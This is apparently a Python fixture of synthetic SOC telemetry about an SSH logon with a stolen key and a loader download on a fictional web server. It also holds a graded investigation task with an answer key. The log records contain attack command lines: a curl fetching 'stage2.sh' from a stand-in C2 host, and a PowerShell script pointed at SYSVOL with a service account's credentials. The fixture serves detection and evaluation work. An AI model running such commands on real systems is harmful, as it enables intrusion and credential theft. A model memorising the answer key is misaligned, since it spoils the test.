"""A small estate and its telemetry as the sensors would write it (Elastic Defend, system.auth, zeek,
suricata, Windows security, security alerts, threat intel), plus a task about it.

The originals listed at the top are what a scan of pseudonymized output must not find.
"""

from __future__ import annotations

import copy
from typing import Any

ATTACKER_IP = "185.220.101.47"
ATTACKER_IP6 = "2a01:4f8:c0c:1234::5"
C2_DOMAIN = "update-check.evil-c2.xyz"
C2_REGISTRABLE = "evil-c2.xyz"
ORG_DOMAIN = "corp.acme-widgets.com"
SHA256 = "3f786850e387550fdab836ed7e6dc881de23001b0d2cb5e4b5a6f6c0f5d6c0a1"

HOSTS = ["web-01", "db-02", "ws-fin-07", "dc01"]
USERS = ["alice", "bob.smith", "svc_backup", "carol", "dave"]
# Tokens of names that must not survive (domains: their non-suffix labels).
NAME_TOKENS = (
    HOSTS + USERS + ["acme-widgets", "evil-c2", "update-check", "acme", "martin", "jones", "stage-host"]
)
IPS = [
    ATTACKER_IP,
    "10.20.1.15",
    "10.20.2.20",
    "10.20.1.16",
    "10.20.5.33",
    "10.20.0.10",
    "45.83.64.11",
    ATTACKER_IP6,
    "fd12:3456::10",
    "91.198.174.192",
]


def _defend_host(name: str, ip: str, os_type: str = "linux") -> dict[str, Any]:
    return {
        "name": name,
        "hostname": name,
        "ip": [ip],
        "mac": ["00-50-56-A1-B2-C3"],
        "os": {
            "type": os_type,
            "name": "Ubuntu" if os_type == "linux" else "Windows Server 2022",
            "family": "debian" if os_type == "linux" else "windows",
            "version": "22.04",
        },
        "id": "6b1e3a0e-2f54-4b4e-9d0a-0c1b9f4e8d21",
        "architecture": "x86_64",
    }


def _agent(name: str) -> dict[str, Any]:
    return {
        "name": name,
        "type": "endpoint",
        "version": "8.15.0",
        "id": "c6b2b3b4-1111-2222-3333-444455556666",
    }


def documents() -> list[dict[str, Any]]:
    web = _defend_host("web-01", "10.20.1.15")
    docs: list[dict[str, Any]] = [
        {  # Elastic Defend: process
            "@timestamp": "2024-05-01T10:00:01.000Z",
            "agent": _agent("web-01"),
            "data_stream": {"dataset": "endpoint.events.process", "namespace": "default", "type": "logs"},
            "ecs": {"version": "8.11.0"},
            "event": {
                "action": "exec",
                "category": ["process"],
                "dataset": "endpoint.events.process",
                "kind": "event",
                "module": "endpoint",
                "type": ["start"],
            },
            "host": web,
            "message": "Endpoint process event",
            "process": {
                "args": [
                    "curl",
                    "-s",
                    f"http://{C2_DOMAIN}/stage2.sh",
                    "-o",
                    "/home/alice/.cache/.sysupdate",
                ],
                "args_count": 5,
                "command_line": f"curl -s http://{C2_DOMAIN}/stage2.sh -o /home/alice/.cache/.sysupdate",
                "entity_id": "YzZiMmIzYjQtMTExMS0yMjIyLTMzMzMtNDQ0NDU1NTU2NjY2LTEyMzQ1",
                "executable": "/usr/bin/curl",
                "name": "curl",
                "pid": 12345,
                "hash": {"sha256": SHA256, "md5": "d41d8cd98f00b204e9800998ecf8427e"},
                "working_directory": "/home/alice",
                "parent": {
                    "name": "bash",
                    "pid": 12000,
                    "executable": "/bin/bash",
                    "command_line": "-bash",
                    "entity_id": "YWJjZGVm",
                },
                "user": {"name": "alice", "id": "1001"},
            },
            "user": {"id": "1001", "name": "alice"},
            "threat": {
                "technique": {"id": ["T1105"], "name": ["Ingress Tool Transfer"]},
                "tactic": {"id": ["TA0011"], "name": ["Command and Control"]},
            },
        },
        {  # Elastic Defend: network
            "@timestamp": "2024-05-01T10:00:01.200Z",
            "agent": _agent("web-01"),
            "data_stream": {"dataset": "endpoint.events.network", "namespace": "default", "type": "logs"},
            "destination": {
                "address": ATTACKER_IP,
                "ip": ATTACKER_IP,
                "port": 443,
                "geo": {"country_iso_code": "DE", "city_name": "Frankfurt"},
                "as": {"number": 24940, "organization": {"name": "Hetzner Online GmbH"}},
            },
            "event": {
                "action": "connection_attempted",
                "category": ["network"],
                "dataset": "endpoint.events.network",
                "kind": "event",
                "type": ["start"],
            },
            "host": web,
            "network": {
                "direction": "egress",
                "transport": "tcp",
                "type": "ipv4",
                "community_id": "1:LQU9qZlK+B5F3KDmev6m5PMibrg=",
            },
            "process": {
                "entity_id": "YzZiMmIzYjQ",
                "executable": "/usr/bin/curl",
                "name": "curl",
                "pid": 12345,
            },
            "source": {"address": "10.20.1.15", "ip": "10.20.1.15", "port": 51514},
            "user": {"id": "1001", "name": "alice"},
        },
        {  # Elastic Defend: file
            "@timestamp": "2024-05-01T10:00:02.000Z",
            "agent": _agent("web-01"),
            "event": {"action": "creation", "category": ["file"], "dataset": "endpoint.events.file"},
            "file": {
                "directory": "/home/alice/.cache",
                "name": ".sysupdate",
                "path": "/home/alice/.cache/.sysupdate",
                "hash": {"sha256": SHA256},
                "size": 48213,
            },
            "host": web,
            "process": {"name": "curl", "pid": 12345},
            "user": {"name": "alice"},
        },
        {  # system.auth (sshd)
            "@timestamp": "2024-05-01T09:58:00.000Z",
            "event": {
                "action": "ssh_login",
                "category": ["authentication"],
                "dataset": "system.auth",
                "outcome": "success",
            },
            "host": {"name": "web-01", "hostname": "web-01"},
            "log": {"file": {"path": "/var/log/auth.log"}},
            "message": f"Accepted publickey for alice from {ATTACKER_IP} port 51234 ssh2: RSA SHA256:abcdEFGH",
            "process": {"name": "sshd", "pid": 901},
            "related": {"ip": [ATTACKER_IP], "user": ["alice"]},
            "source": {"ip": ATTACKER_IP, "port": 51234},
            "system": {"auth": {"ssh": {"event": "Accepted", "method": "publickey"}}},
            "user": {"name": "alice"},
        },
        {  # system.auth (sudo)
            "@timestamp": "2024-05-01T10:01:00.000Z",
            "event": {"category": ["process"], "dataset": "system.auth", "outcome": "success"},
            "host": {"name": "web-01"},
            "message": "alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/crontab -e",
            "process": {"name": "sudo", "pid": 902},
            "related": {"user": ["alice", "root"]},
            "system": {
                "auth": {
                    "sudo": {
                        "command": "/usr/bin/crontab -e",
                        "pwd": "/home/alice",
                        "tty": "pts/0",
                        "user": "root",
                    }
                }
            },
            "user": {"effective": {"name": "root"}, "name": "alice"},
        },
        {  # zeek conn
            "@timestamp": "2024-05-01T10:00:01.300Z",
            "destination": {"bytes": 48213, "ip": ATTACKER_IP, "port": 443},
            "event": {"category": ["network"], "dataset": "zeek.connection", "id": "CHhAvVGS1DHFjwGM9"},
            "host": {"name": "sensor-01"},
            "network": {
                "bytes": 50213,
                "community_id": "1:LQU9qZlK+B5F3KDmev6m5PMibrg=",
                "direction": "outbound",
                "protocol": "ssl",
                "transport": "tcp",
            },
            "related": {"ip": ["10.20.1.15", ATTACKER_IP]},
            "source": {"bytes": 2000, "ip": "10.20.1.15", "port": 51514},
            "zeek": {
                "connection": {"history": "ShADadFf", "local_orig": True, "state": "SF"},
                "session_id": "CHhAvVGS1DHFjwGM9",
            },
        },
        {  # zeek dns
            "@timestamp": "2024-05-01T10:00:00.900Z",
            "destination": {"ip": "10.20.0.10", "port": 53},
            "dns": {
                "answers": [{"class": "IN", "data": ATTACKER_IP, "name": C2_DOMAIN, "ttl": 300, "type": "A"}],
                "header_flags": ["RD", "RA"],
                "id": "4242",
                "question": {
                    "class": "IN",
                    "name": C2_DOMAIN,
                    "registered_domain": C2_REGISTRABLE,
                    "subdomain": "update-check",
                    "top_level_domain": "xyz",
                    "type": "A",
                },
                "resolved_ip": [ATTACKER_IP],
                "response_code": "NOERROR",
                "type": "answer",
            },
            "event": {"category": ["network"], "dataset": "zeek.dns"},
            "network": {"protocol": "dns", "transport": "udp"},
            "source": {"ip": "10.20.1.15", "port": 40001},
            "zeek": {
                "dns": {
                    "answers": [ATTACKER_IP],
                    "query": C2_DOMAIN,
                    "qtype_name": "A",
                    "rcode_name": "NOERROR",
                },
                "session_id": "Cdns1",
            },
        },
        {  # zeek http
            "@timestamp": "2024-05-01T10:00:01.250Z",
            "destination": {"ip": ATTACKER_IP, "port": 80},
            "event": {"category": ["network", "web"], "dataset": "zeek.http"},
            "http": {"request": {"method": "GET"}, "response": {"status_code": 200}, "version": "1.1"},
            "network": {"protocol": "http", "transport": "tcp"},
            "source": {"ip": "10.20.1.15", "port": 51515},
            "url": {"domain": C2_DOMAIN, "original": "/stage2.sh", "path": "/stage2.sh", "port": 80},
            "user_agent": {"original": "curl/7.81.0"},
            "zeek": {"http": {"status_msg": "OK", "trans_depth": 1}},
        },
        {  # zeek ssl
            "@timestamp": "2024-05-01T10:00:01.400Z",
            "destination": {"ip": ATTACKER_IP, "port": 443},
            "event": {"dataset": "zeek.ssl"},
            "network": {"protocol": "ssl", "transport": "tcp"},
            "source": {"ip": "10.20.1.15", "port": 51514},
            "tls": {
                "client": {"ja3": "771,4865-4866,0-23,29,0", "server_name": C2_DOMAIN},
                "server": {"ja3s": "771,4865,43-51", "subject": f"CN={C2_DOMAIN},O=Evil C2 Ltd"},
                "version": "1.3",
                "version_protocol": "tls",
            },
            "zeek": {"ssl": {"server": {"name": C2_DOMAIN}, "version": "TLSv13"}},
        },
        {  # suricata
            "@timestamp": "2024-05-01T10:00:01.500Z",
            "destination": {"address": ATTACKER_IP, "ip": ATTACKER_IP, "port": 443},
            "event": {
                "category": ["network", "intrusion_detection"],
                "dataset": "suricata.eve",
                "kind": "alert",
                "severity": 1,
            },
            "message": f"ET MALWARE Possible C2 beacon to {C2_DOMAIN} from 10.20.1.15",
            "network": {
                "community_id": "1:LQU9qZlK+B5F3KDmev6m5PMibrg=",
                "protocol": "tls",
                "transport": "tcp",
            },
            "rule": {
                "category": "A Network Trojan was detected",
                "id": "2030001",
                "name": f"ET MALWARE Possible C2 beacon to {C2_DOMAIN}",
            },
            "source": {"address": "10.20.1.15", "ip": "10.20.1.15", "port": 51514},
            "suricata": {
                "eve": {
                    "alert": {
                        "signature": f"ET MALWARE Possible C2 beacon to {C2_DOMAIN}",
                        "signature_id": 2030001,
                    },
                    "flow_id": 123456789,
                    "in_iface": "ens5",
                }
            },
        },
        {  # Windows security 4624
            "@timestamp": "2024-05-01T11:00:00.000Z",
            "event": {
                "action": "logged-in",
                "code": "4624",
                "dataset": "system.security",
                "outcome": "success",
            },
            "host": {
                "name": "ws-fin-07.corp.acme-widgets.com",
                "hostname": "WS-FIN-07",
                "ip": ["10.20.5.33"],
                "mac": ["00-15-5D-01-02-03"],
                "domain": "ACME",
            },
            "message": "An account was successfully logged on.\n\nNew Logon:\n\tAccount Name:\t\tbob.smith\n\t"
            "Account Domain:\t\tACME\n\nNetwork Information:\n\tWorkstation Name:\tWS-FIN-07\n\t"
            "Source Network Address:\t10.20.5.33",
            "related": {"user": ["bob.smith"], "ip": ["10.20.5.33"]},
            "source": {"ip": "10.20.5.33", "domain": "WS-FIN-07"},
            "user": {
                "name": "bob.smith",
                "domain": "ACME",
                "id": "S-1-5-21-3623811015-3361044348-30300820-1013",
            },
            "winlog": {
                "computer_name": "ws-fin-07.corp.acme-widgets.com",
                "event_id": "4624",
                "event_data": {
                    "TargetUserName": "bob.smith",
                    "TargetDomainName": "ACME",
                    "WorkstationName": "WS-FIN-07",
                    "IpAddress": "10.20.5.33",
                    "LogonType": "3",
                    "TargetUserSid": "S-1-5-21-3623811015-3361044348-30300820-1013",
                },
            },
        },
        {  # Elastic Defend: Windows process
            "@timestamp": "2024-05-01T11:01:00.000Z",
            "agent": _agent("WS-FIN-07"),
            "event": {"category": ["process"], "dataset": "endpoint.events.process", "type": ["start"]},
            "host": {
                "name": "WS-FIN-07",
                "hostname": "WS-FIN-07",
                "ip": ["10.20.5.33"],
                "mac": ["00-15-5D-01-02-03"],
                "os": {"type": "windows"},
            },
            "process": {
                "command_line": "powershell.exe -NoProfile -File C:\\Users\\bob.smith\\AppData\\Roaming\\upd.ps1 "
                "-Target \\\\dc01\\SYSVOL\\corp.acme-widgets.com -Cred ACME\\svc_backup",
                "executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "name": "powershell.exe",
                "pid": 4242,
                "args": [
                    "powershell.exe",
                    "-NoProfile",
                    "-File",
                    "C:\\Users\\bob.smith\\AppData\\Roaming\\upd.ps1",
                ],
                "parent": {"name": "cmd.exe", "command_line": "cmd.exe /c net user svc_backup /domain"},
                "hash": {"sha256": SHA256},
            },
            "user": {"name": "bob.smith", "domain": "ACME"},
        },
        {  # security alert
            "@timestamp": "2024-05-01T10:00:05.000Z",
            "event": {"kind": "signal", "dataset": "endpoint.events.process"},
            "host": {"name": "web-01", "ip": ["10.20.1.15"]},
            "kibana": {
                "alert": {
                    "rule": {
                        "name": "Suspicious Curl to Rare Domain",
                        "uuid": "7f3c1e5a-rule",
                        "threat": [
                            {
                                "technique": [{"id": "T1105", "name": "Ingress Tool Transfer"}],
                                "tactic": {"id": "TA0011", "name": "Command and Control"},
                            }
                        ],
                    },
                    "reason": f"process event with process curl, by alice on web-01 created high alert "
                    f"Suspicious Curl to Rare Domain (http://{C2_DOMAIN}/stage2.sh)",
                    "severity": "high",
                    "status": "active",
                    "uuid": "a1b2c3",
                }
            },
            "process": {"name": "curl", "command_line": f"curl -s http://{C2_DOMAIN}/stage2.sh"},
            "user": {"name": "alice"},
        },
        {  # threat intel
            "@timestamp": "2024-05-01T08:00:00.000Z",
            "event": {"category": ["threat"], "dataset": "ti_abusech.url", "kind": "enrichment"},
            "tags": ["malware_download", "elf"],
            "threat": {
                "feed": {"name": "AbuseCH URL"},
                "indicator": {
                    "type": "url",
                    "ip": ATTACKER_IP,
                    "provider": "URLhaus",
                    "url": {
                        "domain": C2_DOMAIN,
                        "full": f"http://{C2_DOMAIN}/stage2.sh",
                        "original": f"http://{C2_DOMAIN}/stage2.sh",
                    },
                    "description": f"Linux loader served from {ATTACKER_IP}",
                },
            },
        },
        {  # reverse DNS and IPv6
            "@timestamp": "2024-05-01T10:05:00.000Z",
            "dns": {
                "question": {"name": "47.101.220.185.in-addr.arpa", "type": "PTR"},
                "answers": [{"data": "stage-host.evil-c2.xyz", "type": "PTR"}],
            },
            "source": {"ip": ATTACKER_IP6, "port": 443},
            "destination": {"ip": "fd12:3456::10", "port": 8443},
            "related": {"ip": [ATTACKER_IP6, "fd12:3456::10", "::ffff:10.20.1.16"]},
            "event": {"dataset": "zeek.dns"},
            "message": f"PTR 47.101.220.185.in-addr.arpa -> stage-host.evil-c2.xyz; also from [{ATTACKER_IP6}]:443",
        },
        {  # the decoy: a database server that did nothing wrong
            "@timestamp": "2024-05-01T10:02:00.000Z",
            "event": {"dataset": "endpoint.events.process", "category": ["process"]},
            "host": _defend_host("db-02", "10.20.2.20"),
            "process": {
                "name": "pg_dump",
                "command_line": "pg_dump -h db-02 -U svc_backup appdb",
                "executable": "/usr/bin/pg_dump",
                "pid": 777,
            },
            "user": {"name": "svc_backup"},
        },
        {  # e-mail
            "@timestamp": "2024-05-01T07:00:00.000Z",
            "email": {
                "from": {"address": ["carol@acme-widgets.com"]},
                "to": {"address": ["dave@acme-widgets.com"]},
                "subject": "Invoice for Alice Martin",
            },
            "event": {"dataset": "email.delivery"},
            "user": {"email": "carol@acme-widgets.com", "full_name": "Carol Jones", "name": "carol"},
            "related": {"user": ["carol", "dave"]},
            "url": {"full": "https://portal.acme-widgets.com/login?user=dave"},
            "source": {"ip": "45.83.64.11"},
            "message": "Mail from carol@acme-widgets.com to dave@acme-widgets.com relayed by 91.198.174.192; "
            "Alice Martin cc'd",
        },
    ]
    # The full name of alice appears in a typed field somewhere.
    docs[0]["user"]["full_name"] = "Alice Martin"
    return copy.deepcopy(docs)


def task() -> dict[str, Any]:
    """A task about the estate above, in the seed schema plus soclab's optional fields."""
    return {
        "id": "task-01",
        "title": "Curl to a rare domain on web-01",
        "source_case": "case-01-recon",
        "difficulty": "medium",
        "attack_stage": ["command-and-control", "initial-access"],
        "trigger": {
            "type": "alert",
            "prompt": "Alert 'Suspicious Curl to Rare Domain' fired on web-01 for user alice. Investigate.",
            "pivot": {
                "host.name": "web-01",
                "time_utc": "2024-05-01T10:00:05Z",
                "alert_rule": "Suspicious Curl to Rare Domain",
                "user.name": "alice",
            },
        },
        "allowed_tools": [
            "esql_query",
            "es_search",
            "get_mappings",
            "list_indices",
            "block_ip",
            "isolate_host",
        ],
        "ground_truth": {
            "root_cause": f"alice's SSH key was used from {ATTACKER_IP} to log on to web-01 and fetch a loader "
            f"from {C2_DOMAIN}.",
            "attacker_ip": ATTACKER_IP,
            "implicated_hosts": ["web-01"],
            "techniques": ["T1105", "T1078"],
            "key_evidence": [
                {
                    "source": "logs-endpoint.events.process",
                    "must_find": f"curl -s http://{C2_DOMAIN}/stage2.sh",
                },
                {
                    "source": "logs-system.auth",
                    "must_find": f"Accepted publickey for alice from {ATTACKER_IP}",
                },
                {"source": "logs-zeek.dns", "must_find": C2_DOMAIN},
                {"source": "logs-endpoint.events.file", "must_find": "/home/alice/.cache/.sysupdate"},
            ],
            "iocs": [ATTACKER_IP, C2_DOMAIN, SHA256, "/home/alice/.cache/.sysupdate"],
            "correlation": f"The ssh logon from {ATTACKER_IP} precedes the curl on web-01 by two minutes.",
            "conclusion": f"web-01 was accessed with alice's key from {ATTACKER_IP}; a loader was downloaded from "
            f"{C2_DOMAIN} to /home/alice/.cache/.sysupdate. Block the address, isolate web-01.",
        },
        "expected_response": {
            "required": ["block 185.220.101.47", "isolate web-01"],
            "over_reaction_penalty": ["wiping web-01", "disabling alice everywhere"],
            "required_actions": [
                {"tool": "block_ip", "args": {"ip": ATTACKER_IP}},
                {"tool": "isolate_host", "args": {"host": "web-01"}},
            ],
            "penalized_actions": [{"tool": "wipe_host", "args": {"host": "web-01"}}],
        },
        "scoring": {
            "checkpoints": [
                {
                    "dim": "evidence_recall",
                    "points": 20,
                    "check": f"found the curl to {C2_DOMAIN}",
                    "expect": {"terms": [C2_DOMAIN, "web-01"], "where": ["report", "retrieved"]},
                },
                {
                    "dim": "evidence_recall",
                    "points": 15,
                    "check": "found the ssh logon",
                    "expect": {"terms": [ATTACKER_IP, "alice"], "patterns": [r"Accepted publickey for \w+"]},
                },
                {
                    "dim": "correlation",
                    "points": 25,
                    "check": "linked the logon and the download",
                    "expect": {
                        "any_terms": ["/home/alice/.cache/.sysupdate", SHA256],
                        "patterns": [r"185\.220\.101\.\d+", r"evil-c2\.xyz"],
                    },
                },
                {
                    "dim": "conclusion_accuracy",
                    "points": 25,
                    "check": "named web-01 and the attacker address",
                    "expect": {"terms": ["web-01", ATTACKER_IP], "forbid": ["db-02"]},
                },
                {
                    "dim": "response_restraint",
                    "points": 15,
                    "check": "blocked the address without wiping",
                    "expect": {
                        "actions": [{"tool": "block_ip", "args": {"ip": ATTACKER_IP}}],
                        "where": ["actions"],
                    },
                },
            ]
        },
        "description": "A curl download after an SSH logon with a stolen key.",
    }
